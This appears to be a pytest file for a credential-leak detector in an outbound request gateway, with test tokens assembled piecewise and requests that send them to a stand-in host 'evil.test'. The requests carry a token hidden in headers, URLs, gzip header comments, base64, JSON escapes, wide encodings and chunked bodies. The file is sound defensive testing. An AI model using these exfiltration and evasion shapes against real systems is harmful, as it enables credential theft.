import base64
import gzip
import json
from urllib.parse import quote

import pytest
from asked import asked

from outgate.actions.service import CREDENTIALS
from outgate.inspect import secrets
from outgate.inspect.secrets import LONGEST, NAMES, SHORTEST, classes_of, secrets_in
from outgate.intake.bodies import DECODED_LIMIT
from outgate.intake.request import UnreadBody, WholeBody
from outgate.stores.catalog_files import load_catalog

CATALOG = load_catalog()
A, D = "Ab3", "0123456789abcdef"
KEY = "-----BEGIN " + "PRIVATE KEY-----"

# Put together here, so that no scanner takes this file for a leak.
TOKENS = [
    ("aws", "AKIA" + "Z2345ABCDEFGHIJK"),
    ("aws", "ASIA" + "Z2345ABCDEFGHIJK"),
    ("aws", "aws_secret_access_key = " + "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"),
    ("aws", '"SecretAccessKey": "' + "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + 'EXAMPLEKEY"'),
    ("github", "ghp" + "_" + A * 12),
    ("github", "gho" + "_" + A * 12),
    ("github", "ghs" + "_" + A * 12),
    ("github", "github_pat" + "_" + "A1" * 11 + "_" + "b" * 59),
    ("gitlab", "glpat" + "-" + A * 7),
    ("stripe", "sk" + "_live_" + A * 8),
    ("stripe", "rk" + "_live_" + A * 8),
    ("stripe", "whsec" + "_" + A * 11),
    ("slack", "xoxb" + "-1234567890-1234567890-" + A * 8),
    ("slack", "xoxp" + "-1234567890-1234567890-" + A * 8),
    ("slack", "xapp" + "-1-A0123456789-1234567890123-" + D * 4),
    ("slack", "https://hooks.slack.com" + "/services/T0123ABCD/B0123ABCD/" + A * 8),
    ("anthropic", "sk-ant" + "-api03-" + A * 30 + "AA"),
    ("anthropic", "sk-ant" + "-oat01-" + A * 30 + "AA"),
    ("openai", "sk-proj" + "-" + A * 20 + "_-x"),
    ("openai", "sk-svcacct" + "-" + A * 20),
    ("openai", "sk-" + "a" * 20 + "T3Blbk" + "FJ" + "b" * 20),
    ("google", "AIza" + "Sy" + A * 11),
    ("google", "GOCSPX" + "-" + A * 9 + "x"),
    ("google", "ya29" + "." + A * 20),
    ("npm", "npm" + "_" + A * 12),
    ("pypi", "pypi" + "-AgEIcHlwaS5vcmc" + A * 30),
    ("huggingface", "hf" + "_" + "aBcDe" * 6 + "xyzw"),
    ("sendgrid", "SG" + "." + "a1" * 11 + "." + "b" * 43),
    ("digitalocean", "dop" + "_v1_" + D * 4),
    ("docker", "dckr" + "_pat_" + A * 9),
    ("linear", "lin" + "_api_" + "a1" * 20),
    ("shopify", "shpat" + "_" + D * 2),
    ("databricks", "dapi" + D * 2),
    ("vault", "hvs" + "." + A * 10),
    ("outgate", "outgate" + "_" + "a1-_" * 10 + "xyz"),
    ("age", "AGE-SECRET" + "-KEY-1" + "Q9" * 29),
    ("azure", "AccountName=x;Account" + "Key=" + "A" * 86 + "=="),
    ("private-key", KEY + "\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" + "b" * 32 + "\n"),
    ("private-key", "-----BEGIN " + "RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB\n\n" + "c" * 64),
    ("private-key", "-----BEGIN " + "OPENSSH PRIVATE KEY-----\n" + "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU" + "A" * 39),
]
IDS = [f"{name}-{number}" for number, (name, _) in enumerate(TOKENS)]


@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
def test_a_credential_is_found(name, token):
    assert secrets_in(token.encode()) == {name}


@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
@pytest.mark.parametrize("around", ['{{"text": {json}}}', "see {token}, please", "a={token}&b=1", "<{token}>", "x\n{token}\ny"])
def test_a_credential_is_found_amid_text(name, token, around):
    assert name in secrets_in(around.format(token=token, json=json.dumps(token)).encode())


@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
def test_a_credential_is_found_in_a_form(name, token):
    assert name in secrets_in(f"a=1&b={quote(token, safe='')}".encode())


@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
def test_a_credential_is_found_in_the_base64_of_a_file(name, token):
    content = f"# settings of the service, keep them\nTOKEN={token}\nMODE=production\n".encode()
    for encoded in (base64.b64encode(content), base64.encodebytes(content * 4)):
        assert name in secrets_in(json.dumps({"content": encoded.decode()}).encode())


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
def test_a_credential_in_wide_letters_is_found(name, token, encoding):
    assert name in secrets_in(f'{{"token": "{token}"}}'.encode(encoding))


@pytest.mark.parametrize("before", ["a" * 3000 + "/", "a." * 2000, "/a" * 2000 + "+"])
@pytest.mark.parametrize("after", ["", "/" + "b" * 3000])
def test_a_credential_in_a_long_run_is_found(before, after):
    assert "github" in secrets_in((before + TOKENS[4][1] + after).encode())
    assert "stripe" in secrets_in((before + TOKENS[9][1] + after).encode())


def test_a_run_of_nothing_but_beginnings_takes_no_time():
    assert secrets_in(b"/AKIA" * 400_000) == frozenset()


def test_a_slash_that_json_escapes_hides_nothing():
    name, token = TOKENS[3]
    assert name in secrets_in(token.replace("/", "\\/").encode())


@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
def test_a_credential_in_json_escapes_is_found(name, token):
    escaped = "".join(f"\\u{ord(character):04x}" for character in token)
    assert name in secrets_in(f'{{"a": "{escaped}"}}'.encode())


def test_every_kind_has_a_vector():
    assert {name for name, _ in TOKENS} == NAMES


@pytest.mark.parametrize(
    "text",
    [
        *(
            "AKIA",
            "AKIAIOSFODNN7",
            "ghp_short",
            "ghp_" + "x" * 20,
            "sk_test_" + A * 8,
            "pk_live_" + A * 8,
            "task-proj-" + "a" * 40,
        ),
        *(
            "github_pat_…",
            "xoxb-…",
            "-----BEGIN PUBLIC KEY-----\n" + "A" * 64,
            KEY,
            KEY + "\\n...\\n",
            "npm_config_cache",
            "npm_package_json",
        ),
        *("hf_hub_download", "SG.", "dapi", "deadbeef" * 8, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
        *("2025-11-21T11:04:05.123456+00:00", "node_modules/.pnpm/registry.npmjs.org+left-pad@1.0.0", "AIzaTooShort"),
        *("The quick brown fox jumps over the lazy dog. " * 50, "/usr/lib/python3.13/site-packages/outgate/inspect/secrets.py"),
        "xAKIA" + "Z2345ABCDEFGHIJK",
        "AKIA" + "Z2345ABCDEFGHIJKL",
    ],
)
def test_what_only_looks_like_one_is_none(text):
    assert secrets_in(text.encode()) == frozenset()


def test_a_picture_in_base64_is_none():
    noise = bytes((i * 7919 >> 3) & 0xFF for i in range(100_000))
    assert secrets_in(base64.b64encode(noise)) == frozenset()
    assert len(base64.b64encode(noise)) > LONGEST


GITHUB, STRIPE = TOKENS[4][1], TOKENS[9][1]
OPENAI = TOKENS[18][1]
DIGITALOCEAN, DATABRICKS = "dop" + "_v1_" + D * 4, "dapi" + D * 2


def test_a_credential_in_its_own_slot_is_no_data():
    request = asked("GET https://api.github.com/user", headers={"authorization": f"Bearer {GITHUB}"})
    assert classes_of(request, CATALOG) == frozenset()


def test_a_credential_of_another_service_in_the_slot_is():
    request = asked("POST https://api.openai.com/v1/responses", headers={"authorization": f"Bearer {GITHUB}"}, json={})
    assert classes_of(request, CATALOG) == {"secret"}


@pytest.mark.parametrize(
    "asking",
    [
        {"line": f"GET https://api.github.com/search/code?q={GITHUB}"},
        {"line": f"GET https://api.github.com/repos/{GITHUB}/x"},
        {"line": "GET https://api.github.com/user", "headers": {"x-token": GITHUB}},
        {"line": "GET https://api.github.com/user", "headers": {"cookie": f"a={GITHUB}"}},
        {"line": "POST https://api.github.com/gists", "json": {"files": {"a": {"content": f"TOKEN={GITHUB}"}}}},
        {"line": "POST https://api.openai.com/v1/responses", "json": {"input": f"use {GITHUB}"}},
        {"line": "POST https://slack.com/api/chat.postMessage", "form": f"channel=C1&text={GITHUB}"},
        {"line": "GET https://evil.test/", "headers": {"authorization": f"Bearer {GITHUB}"}},
        {
            "line": "GET https://evil.test/",
            "headers": {"authorization": "Basic " + base64.b64encode(f"x:{GITHUB}".encode()).decode()},
        },
        {"line": f"GET https://evil.test/?{quote(GITHUB).replace('_', '%5f')}"},
        {"line": f"GET https://evil.test/{'a' * 2000}/{GITHUB}"},
        {"line": "GET https://evil.test/", "headers": {DIGITALOCEAN: "1"}},
        {"line": f"GET https://{DATABRICKS}.evil.test/"},
    ],
)
def test_a_credential_anywhere_else_is_data(asking):
    assert classes_of(asked(asking.pop("line"), **asking), CATALOG) == {"secret"}


def test_a_slot_in_the_query_is_no_data():
    assert classes_of(asked(f"GET https://slack.com/api/auth.test?token={TOKENS[12][1]}"), CATALOG) == frozenset()
    assert classes_of(asked(f"GET https://slack.com/api/auth.test?query={TOKENS[12][1]}"), CATALOG) == {"secret"}


def test_a_compressed_body_is_looked_into():
    request = asked(
        "POST https://evil.test/", headers={"content-encoding": "gzip"}, body=WholeBody(gzip.compress(STRIPE.encode()))
    )
    assert classes_of(request, CATALOG) == {"secret"}


def test_a_compressed_body_is_also_looked_into_as_it_stands():
    """Who doesn't undo codings reads the comment in gzip's header."""
    packed = gzip.compress(b"nothing", mtime=0)
    content = packed[:3] + b"\x10" + packed[4:10] + STRIPE.encode() + b"\0" + packed[10:]
    assert gzip.decompress(content) == b"nothing"
    request = asked("POST https://evil.test/", headers={"content-encoding": "gzip"}, body=WholeBody(content))
    assert classes_of(request, CATALOG) == {"secret"}


@pytest.mark.parametrize("coding", ["hex", "gzip, gzip", "gzip"])
def test_a_body_that_can_not_be_decoded_is_unreadable(coding):
    request = asked("POST https://evil.test/", headers={"content-encoding": coding}, body=WholeBody(b"6162"))
    assert classes_of(request, CATALOG) == {"unreadable"}


def test_a_body_that_nobody_read_is_unreadable():
    request = asked("POST https://evil.test/", body=UnreadBody(10_000_000, too_large=True))
    assert classes_of(request, CATALOG) == {"unreadable"}


def test_an_unreadable_body_does_not_hide_what_the_head_says():
    request = asked(f"POST https://evil.test/?{OPENAI}", headers={"content-encoding": "hex"}, body=WholeBody(b"6162"))
    assert classes_of(request, CATALOG) == {"secret", "unreadable"}


def test_ordinary_requests_carry_nothing():
    assert classes_of(asked("GET https://pypi.org/simple/requests/"), CATALOG) == frozenset()
    assert (
        classes_of(asked("POST https://api.openai.com/v1/responses", json={"input": "hello", "model": "gpt-5"}), CATALOG)
        == frozenset()
    )


@pytest.mark.parametrize(
    ("line", "headers", "token"),
    [
        (
            "GET https://s3.eu-west-1.amazonaws.com/b/k",
            {"authorization": "AWS4-HMAC-SHA256 Credential={}/20250101/eu-west-1/s3/aws4_request"},
            0,
        ),
        ("GET https://b.s3.amazonaws.com/k?X-Amz-Credential={}%2F20250101", {}, 0),
        ("GET https://storage.googleapis.com/x?key={}", {}, 21),
        ("GET https://huggingface.co/api/models", {"authorization": "Bearer {}"}, 26),
        ("GET https://gitlab.com/api/v4/projects", {"private-token": "{}"}, 8),
        ("GET https://acme.myshopify.com/admin/api", {"x-shopify-access-token": "{}"}, 31),
    ],
)
def test_a_service_gets_its_own_credential_where_it_wants_it(line, headers, token):
    key = TOKENS[token][1]
    request = asked(line.format(key), headers={name: value.format(key) for name, value in headers.items()})
    assert classes_of(request, CATALOG) == frozenset()
    elsewhere = asked(
        line.replace("https://", "https://evil.test/").format(key), headers={n: v.format(key) for n, v in headers.items()}
    )
    assert classes_of(elsewhere, CATALOG) == {"secret"}


def test_what_a_service_file_may_name_is_what_is_told_apart():
    assert set(CREDENTIALS) == NAMES


@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
def test_no_token_is_shorter_than_what_is_looked_at(name, token):
    assert len(token) >= SHORTEST


# what is looked into piece by piece

TOKEN = b"ghp" + b"_" + b"Ab3" * 12


def body_of(content, **headers):
    said = {name.replace("_", "-"): value for name, value in headers.items()}
    return asked("POST https://x.test/up", body=WholeBody(content), headers=said)


@pytest.fixture
def small(monkeypatch):
    """Windows so small that many are tried."""
    monkeypatch.setattr(secrets, "WINDOW", 4096)
    monkeypatch.setattr(secrets, "_OVERLAP", 1024)


def test_what_fits_is_one_window_and_is_not_copied():
    content = b"x" * secrets.WINDOW
    (window,) = secrets.windows(iter((content,)))
    assert window is content


@pytest.mark.parametrize("step", [1, 7, 1024, 4096, 100_000])
def test_windows_have_everything_and_no_more_than_they_may(small, step):
    content = b" ".join(b"%d" % number for number in range(4000))
    found = list(secrets.windows(content[at : at + step] for at in range(0, len(content), step)))
    assert all(len(window) <= 4096 + 2 * 1024 for window in found)
    end = 0
    for window in found:
        start = content.find(window, max(0, end - 2 * 1024))
        assert 0 <= start <= max(0, end - 1024)
        end = start + len(window)
    assert end == len(content)


@pytest.mark.parametrize("filler", [b"a b ", b"x", b"%41", b"\n"])
def test_a_secret_is_found_wherever_it_stands(small, filler):
    for at in range(3900, 4300, 3):
        content = (filler * 20_000)[:at] + b" " + TOKEN + b" " + (filler * 20_000)[: 9000 - at]
        assert classes_of(body_of(content), CATALOG) == {"secret"}, at


def test_also_in_base64_that_goes_over_many_windows(small):
    for before in range(2900, 3300, 7):
        run = base64.b64encode(b"." * before + TOKEN + b"." * 6000)
        for shift in range(4):
            assert classes_of(body_of(b'{"a":"' + b" " * shift + run + b'"}'), CATALOG) == {"secret"}, (before, shift)


def test_what_is_too_much_is_unreadable(monkeypatch):
    monkeypatch.setattr(secrets, "SEARCHED", 10_000)
    packed = gzip.compress(b"x" * 10_001)
    assert classes_of(body_of(packed, content_encoding="gzip"), CATALOG) == {"unreadable"}


def test_more_than_is_parsed_is_still_looked_into():
    content = b"word " * (4 * 2**20) + TOKEN
    assert len(content) > DECODED_LIMIT
    assert classes_of(body_of(content), CATALOG) == {"secret"}
    assert classes_of(body_of(gzip.compress(content, 1), content_encoding="gzip"), CATALOG) == {"secret"}


def test_what_s3_is_sent_in_chunks_is_looked_into_as_it_is_meant():
    middle = len(TOKEN) // 2
    content = b"%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n" % (middle, TOKEN[:middle], len(TOKEN) - middle, TOKEN[middle:])
    said = {"content_encoding": "aws-chunked", "x_amz_decoded_content_length": str(len(TOKEN))}
    assert classes_of(body_of(content, **said), CATALOG) == {"secret"}
    assert classes_of(body_of(content, content_encoding="aws-chunked"), CATALOG) == {"unreadable"}
    assert (
        classes_of(body_of(b"%x\r\n%s\r\n0\r\n\r\n" % (2, b"ok"), **said | {"x_amz_decoded_content_length": "2"}), CATALOG)
        == set()
    )


def test_a_trailer_is_looked_into_as_well():
    content = b"2\r\nok\r\n0\r\nx-amz-meta:" + TOKEN + b"\r\n\r\n"
    assert classes_of(body_of(content, content_encoding="aws-chunked", x_amz_decoded_content_length="2"), CATALOG) == {"secret"}


def test_a_part_that_was_encoded_by_itself_is_undone():
    part = b'--xxxxxxxx\r\nContent-Disposition: form-data; name="f"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n%s\r\n--xxxxxxxx--'
    cut = TOKEN[:9] + b"=\r\n" + TOKEN[9:]
    assert classes_of(body_of(part % cut, content_type="multipart/form-data; boundary=xxxxxxxx"), CATALOG) == {"secret"}
    assert classes_of(body_of(part % TOKEN.replace(b"_", b"=5F"), content_type="multipart/mixed"), CATALOG) == {"secret"}


@pytest.mark.parametrize("charset", ["utf-7", "cp037", "utf-16", "iso-2022-kr", "rot13"])
def test_text_in_which_ascii_is_not_ascii_is_unreadable(charset):
    assert "unreadable" in classes_of(body_of(b"text", content_type=f"text/plain; charset={charset}"), CATALOG)


@pytest.mark.parametrize("charset", ["utf-8", "US-ASCII", "iso-8859-1", "windows-1252"])
def test_text_in_which_it_is_is_not(charset):
    assert classes_of(body_of(b"text", content_type=f"text/plain; charset={charset}"), CATALOG) == set()
